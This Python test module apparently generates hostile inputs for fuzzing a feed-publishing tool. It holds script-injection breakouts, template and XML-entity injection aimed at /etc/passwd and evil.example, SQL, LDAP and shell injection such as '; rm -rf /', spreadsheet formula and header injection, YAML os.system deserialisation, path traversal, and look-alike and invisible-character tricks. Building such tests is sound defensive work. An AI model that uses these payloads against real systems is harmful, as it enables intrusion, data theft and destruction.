"""Families of texts that try to break out of where they stand, to be taken for something else, or to wear readers out."""

from __future__ import annotations

import unicodedata
from collections.abc import Iterator
from itertools import product

from tests.hostile.scripts import RUN

_BIDI = "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
_INVISIBLE = "\u00ad\u034f\u115f\u1160\u17b4\u180b\u180e\u200b\u200c\u200d\u2060\u2061\u2062\u2063\u2064\u206a\u3164\ufe0f\ufeff\uffa0"


def ends() -> Iterator[str]:
    """Ends of everything that a text may stand in, and something to run behind them."""
    closing = (
        '"', "'", "`", '">', "'>", "--" + ">", "]]>", "?>", "%>", "}}", "</title>", "</script>", "</SCRIPT >", "</style>", "</textarea>",
        "</noscript>", "</template>", "</xmp>", "</a>", "</p></div></body></html>", "*/", "*/}", "\n", "\r\n\r\n", "\x00", "\u2028",
        '\\"', "\\'", '\\";', "';", '");', "\\u0022", "\\x3e", "&quot;>", "&#34;>", "&apos;>", "&lt;/script&gt;", '"}],"x":"', '"}]}',
        "</content></entry></feed>", "</description></item></channel></rss>", '"/></body></opml>', "]]>]]&gt;<![CDATA[", "<!--#exec cmd=x -->",
    )  # fmt: skip
    running = (
        f"<script>{RUN}</script>", f"<svg/onload={RUN}>", f" autofocus onfocus={RUN} x=", f"{RUN}//", f"<img src=x onerror={RUN}>",
        f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&amp;lt;img src=x onerror={RUN}&amp;gt;",
    )  # fmt: skip
    yield from (f"x{end}{run}" for end, run in product(closing, running))


def templates() -> Iterator[str]:
    """What template languages, shells of macros and formats would fill in."""
    inside = (
        "7*7", "config", "self", "site", "loop", "x.__class__.__mro__[1].__subclasses__()", "''.__class__", "lipsum.__globals__", "cycler",
        "request", "range(9**9)", "'a'*9**9", "namespace()", "frame", "texts", "url", "x|safe", "x|attr('__class__')", "0/0",
        "include('/etc/passwd')", "constructor.constructor('x')()", "jndi:ldap://evil.example/x", "env:HOME", "names", "0.__class__",
    )  # fmt: skip
    shapes = ("{{{{ {} }}}}", "{{% {} %}}", "{{# {} #}}", "${{{}}}", "#{{{}}}", "*{{{}}}", "<%= {} %>", "[[{}]]", "{{{}}}", "%({})s", "`{}`",
              "@({})", "$({})", "{{%- raw -%}}{}{{% endraw %}}", "\\{{{{{}}}}}")  # fmt: skip
    yield from (shape.format(one) for shape, one in product(shapes, inside))


def documents() -> Iterator[str]:
    """XML that declares, includes, expands or instructs."""
    for name in ("xxe", "lol", "%p", "amp", "lt", "nbsp"):
        for value in (
            'SYSTEM "file:///etc/passwd"',
            'SYSTEM "http://evil.example/x.dtd"',
            f'"&#60;script>{RUN}&#60;/script>"',
            '"&lol;&lol;"',
        ):
            yield f"<?xml version='1.0'?><!DOCTYPE x [<!ENTITY {name} {value}>]><x>&{name.strip('%')};</x>"
            yield f"&{name};<!DOCTYPE html [<!ENTITY {name} {value}>]>"
    for name in ("xi:include href='/etc/passwd'", "?xml-stylesheet href='javascript:x'?", "xsl:stylesheet", "!ATTLIST x onload CDATA 'x'",
                 "html:script xmlns:html='http://www.w3.org/1999/xhtml'", "x xmlns='http://www.w3.org/2000/svg' onload='x'",
                 "x xml:base='javascript:'", "entry", "item", "channel", "feed", "updated", "guid", "link href='//x'", "content type='html'"):  # fmt: skip
        yield f"<{name}>{RUN}</{name.split()[0]}>"
        yield f"]]><{name}/><![CDATA["
        yield f"&lt;{name}&gt;&#60;{name}&#62;&amp;lt;{name}&amp;gt;"


def characters() -> Iterator[str]:
    """Characters that no document can hold, that nobody sees, or that are not what they look like."""
    odd = (*range(0x20), *range(0x7F, 0xA0), 0xAD, 0x34F, 0x61C, 0x2028, 0x2029, 0xD800, 0xDBFF, 0xDC00, 0xDFFF, 0xE000, 0xF8FF, 0xFDD0,
           0xFDEF, 0xFEFF, 0xFFF9, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0x1FFFE, 0x1FFFF, 0xE0001, 0xE007F, 0xF0000, 0x10FFFD, 0x10FFFF)  # fmt: skip
    for code in odd:
        yield f"no{chr(code)}tice <scr{chr(code)}ipt>{RUN}</script>"
        yield f"{chr(code)}<img {chr(code)}src=x onerror{chr(code)}={RUN}>{chr(code)}"
        yield f"&#{code};notice&#x{code:x}; &#{code:08}<b>"


def directions() -> Iterator[str]:
    """Marks that turn the direction of text, alone, in pairs, in floods, left open and closed too often."""
    for one in _BIDI:
        yield f"Notice {one}fdp.exe"
        yield one * 500 + "notice"
        yield f"<b>{one}</b>notice{one}{one}"
        yield from (f"a{one}b{other}c" for other in _BIDI)
    yield from (f"إشعار {number} notice {one}{number}" for number, one in enumerate(_BIDI))


def invisible() -> Iterator[str]:
    """Characters of no width, and marks that pile up."""
    for one in _INVISIBLE:
        yield one
        yield one * 300
        yield f"{one}notice{one}{one}x"
        yield f"<script{one}>{RUN}</script{one}>"
        yield f"java{one}script:{RUN}"
    for first in range(0x300, 0x340, 4):
        pile = "".join(map(chr, range(first, first + 4)))
        yield f"Z{pile * 40}algo"
        yield f"<{pile}b>{pile}</b>{pile * 200}"


def look_alikes() -> Iterator[str]:
    """The same letters in other alphabets, widths, forms and orders of marks."""
    for word in (
        "script",
        "javascript:",
        "<img src=x onerror=x>",
        "government",
        "www.info.gov.hk",
        "../../etc/passwd",
        "Ends",
        "NNNN",
    ):
        yield "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in word)
        yield word.translate(str.maketrans("aceopsxyi", "\u0430\u0441\u0435\u043e\u0440\u0455\u0445\u0443\u0456"))
        yield "".join(
            chr(0x1D400 + ord(one) - 65) if one.isupper() else chr(0x1D41A + ord(one) - 97) if one.islower() else one
            for one in word
        )
        yield "".join(chr(0x24D0 + ord(one) - 97) if "a" <= one <= "z" else one for one in word)
        yield "".join(chr(0xE0000 + ord(one)) if one.isascii() else one for one in word)
        yield word.upper().replace("K", "\u212a").replace("S", "\u017f").replace("I", "\u0130")
    for text in (
        "e\u0301te\u0301",
        "\u1100\u1161\u11a8",
        "ﬁ ﬃ ﷺ ﷽ ㍿ ㎓ ½ ² Ⅻ",
        "Å\u212b\u0041\u030a",
        "\u0344\u0958\u2adc",
        "ß ẞ ſt ŉ",
        "İıIi",
    ):
        yield from (unicodedata.normalize(form, text) + form for form in ("NFC", "NFD", "NFKC", "NFKD"))
        yield text


def numbers() -> Iterator[str]:
    """Numbers, dates and times that are none, or that are too large for whoever counts."""
    odd = (
        "0", "-0", "1e1000", "-1e-1000", "NaN", "Infinity", "-inf", "0x10", "0b1", "0o17", "1_000", "1,000,00", "٣٤", "１２３", "²³", "9" * 400,
        "2147483648", "-9223372036854775809", "18446744073709551616", "0.1e", ".", "1.2.3", "1/0", "undefined", "null", "None", "true",
        "0000-00-00", "9999-99-99", "1900-02-29", "2026-02-30T25:61:61Z", "2026-11-20T23:59:60+24:00", "二〇二六年十三月四十日", "零年零月零日",
        "today (February 30)", "今日（十三月三十二日）", "99:99 pm", "Ends/Friday, February 31, 9999", "Issued at HKT 99:99", "香港時間99時99分",
        "1970-01-01T00:00:00Z", "0001-01-01", "10000-01-01", "@0", "1669-W99-9", "P9999Y", "-1 days", "12:00:00.9999999999999999",
    )  # fmt: skip
    for one in odd:
        yield one
        yield f"{one} {one}: {one} of {one} ({one})"
        yield f"<ol start='{one}'><li value='{one}'>x</li></ol><td colspan='{one}' rowspan='{one}'>x<img width='{one}' src=/a.png>"


def commands() -> Iterator[str]:
    """What databases, directories, shells, spreadsheets, logs, mails and terminals would obey."""
    texts = (
        "' OR '1'='1", "'; DROP TABLE entry;--", '" OR ""="', "1; ATTACH DATABASE '/tmp/x' AS x", "') UNION SELECT sql FROM sqlite_master--",
        "x' AND randomblob(1e9)--", "\\' OR 1=1 --", "%' ESCAPE '!", "*)(uid=*))(|(uid=*", "admin)(&)", "\\2a\\28", "; rm -rf /", "| cat /etc/passwd",
        "`id`", "$(id)", "& ping -c 9 evil.example &", "\nid\n", "-rf", "--help", "-oProxyCommand=x", "~root", "$HOME", "${IFS}id", "!!", ">x", "<x",
        "=1+1", '=HYPERLINK("http://evil.example")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", '"=1"', "x\r\nSet-Cookie: a=b",
        "x\nLocation: http://evil.example", "x%0d%0aX: y", "x\r\n\r\n<script>x</script>", "2026-11-20 ERROR forged line", "x\n200 OK", "\x1b[2J\x1b[H",
        "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x07link\x1b]8;;\x07", "\x1b[31mred", "\x9b2J", "\x1bP$q\x1b\\", "\x07\x07", "\b\b\bover", "x\rover",
        "Subject: x\nBcc: all@example", "a@b.example\ncc: x", "%n%n%n%s", "%x %x", "{0}{1}", "A" * 300 + "%n", "\\n\\r\\t\\0", "\\x00", "C:\\", "nul",
    )  # fmt: skip
    for text in texts:
        yield text
        yield f"notice {text} notice"
        yield f"<p>{text}</p>"


def paths() -> Iterator[str]:
    """Names of files that lead elsewhere, or that no folder can hold."""
    steps = ("../", "..\\", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%5c", "..%c0%af", "..%252f", "....//", "..;/", ".\u2024/", "\u2025/", "\uff0e\uff0e/",
             "..\uff0f", "..\u2215", "..\u2044", "..\x00/", "./.././", "/..", "\\\\?\\", "\\\\evil.example\\x\\", "//evil.example/", "file:///", "~/")  # fmt: skip
    for step in steps:
        yield from (
            f"{step * times}{end}" for times, end in ((1, "x"), (6, "etc/passwd"), (12, "feeds/all/en.atom"), (3, ""))
        )
    for name in ("CON", "PRN", "AUX", "NUL", "COM1", "LPT9", "con.txt", "nul.html", ".", "..", "...", ".htaccess", ".git", "index.html", "status.json",
                 "feeds.opml", "a/b", "a\\b", "a:b", "a*b?c", "a\x00.html", "a\n.html", " a ", "a.", "-a", "%", "%00", "a%2fb", "CLOCK$", "x" * 300, "漢" * 100,
                 "e\u0301", ".feedpub-tmp", ".x.feedpub-tmp", "*.gz", "en.atom.gz", "topics/../all", "embed/feedpub.js", "C:x", "\u202egnp.exe"):  # fmt: skip
        yield name
        yield f"/{name}/{name}"
        yield f"https://news.example/{name}"


def matters() -> Iterator[str]:
    """What YAML, TOML, CSV, JSON and Markdown would read as more than text."""
    values = (
        "!!python/object/apply:os.system ['id']", "!!python/name:os.system", "!!binary x", "!!set {a, b}", "!!timestamp 2026-01-01", "!ruby/object:X {}",
        "&a [*a]", "*a", "[&x [y, y], *x]", "{<<: *x}", "|\n  x\n", ">\n  x\n", "? x\n: y", "%TAG ! x", "1:2:3", "0o17", ".inf", "~", "yes", "no", "@x", "`x`",
        "- x\n- y", "key: value: value", "'unclosed", '"unclosed', "{unclosed: [", "x = 1", "[table]", "[[table]]", "'''x'''", '"""x"""', "\\u0000",
        "1979-05-27T07:32:00Z", "# comment", "---", "+++", "...", 'a,b\n"c""d",e', '{"a":1,"a":2}', "[1,2,", '"\\ud800"', "1e999",
    )  # fmt: skip
    for value in values:
        yield f"---\ntitle: {value}\n---\nNotice"
        yield f"+++\nkey = {value}\n+++\nNotice"
        yield value
        yield f"[{value}](javascript:{RUN}) ![{value}](data:x) <javascript:{RUN}> [x]: javascript:{RUN}"
    for text in ("[x](javascript&colon;{0})", "![x](x 'y\" onerror={0}')", "[x]: data:text/html,x\n[x]", '<https://x" onclick={0}>', "`</code><script>{0}</script>`",
                 "```\n</pre><script>{0}</script>\n```", "    <script>{0}</script>", "[a](<javascript:{0}>)", "# x <img src=x onerror={0}>", "| <script>{0}</script> |\n| - |",
                 "&lt;script&gt;{0}", "\\<script>{0}", "[![x](javascript:{0})](javascript:{0})", "[x](//evil.example)", "*[x]: y", "<x-y onclick={0}>", "[x](\x01javascript:{0})"):  # fmt: skip
        yield text.format(RUN)


def encodings() -> Iterator[str]:
    """What another charset would read as markup, marks of byte order in the middle, and bytes read wrongly."""
    for text in (f"<script>{RUN}</script>", f'"><img src=x onerror={RUN}>', f"javascript:{RUN}", "../../etc/passwd"):
        yield text.encode("utf-7").decode("ascii")
        yield "".join(f"+{chr(ord(one))}-" for one in text)
        yield "".join(f"%u00{ord(one):02x}" for one in text)
        yield "".join(f"%c{0 if ord(one) < 64 else 1}%{ord(one) % 64 + 128:02x}" for one in text)
        yield "".join(f"\u00c0{chr(0x80 + ord(one) % 64)}" for one in text)
        yield "\ufeff".join(text)
        yield text.encode("utf-16-le").decode("latin-1")
        yield text.encode("utf-16-be").decode("latin-1")
        yield text.encode("utf-32-le").decode("latin-1")
        yield "".join(chr(ord(one) + 0x80) for one in text)
        yield f"\x1b$B{text}\x1b(B"
        yield f"\x0e{text}\x0f"
        yield "\u00bc" + text[1:-1] + "\u00be"
        yield "\uff1c" + text[1:-1] + "\uff1e"
        yield "新聞公報".encode("big5").decode("latin-1") + text
        yield "新聞公報".encode().decode("cp1252", "ignore") + text
        yield f"{text}\u0a3c\ufe64{text}\ufe65"


def long() -> Iterator[str]:
    """Words, attributes, depths and runs that are longer than anybody reads; each is a text of up to 20,000 characters."""
    for one in ("x", "漢", "字 ", "<", ">", "&", '"', "\u0301", "\u202e", "(", "（", "[", "<b>", "</b>", "<p>", "<ul><li>", "<table><td>", "<pre>", "<br>", "&amp;", "&#32;",
                " ", "\u00a0", "\u3000", "\u200b", ".", "…", "。", "*", "Ends\n", "完\n", "1", "1年", "A. ", "<a href=x>", "<!--", "<svg>", "&lt;", "😀", "🇭🇰", "-", "=", "\\", "://"):  # fmt: skip
        yield one * (20_000 // len(one))
        yield f"Notice {one * 300} notice <img src=x onerror={RUN}>"
    for start, unit, end in (
        ("<a href='https://x.example/", "x", "'>x</a>"),
        ("<p title='", "y ", "'>x"),
        ("<img alt='", "&lt;", "' src=/a.png>"),
        ("<", "b", ">x"),
        ("<x ", "y=z ", ">x"),
    ):
        yield start + unit * 5_000 + end


FAMILIES = {
    one.__name__: one
    for one in (
        ends, templates, documents, characters, directions, invisible, look_alikes, numbers, commands, paths, matters, encodings, long,
    )
}  # fmt: skip
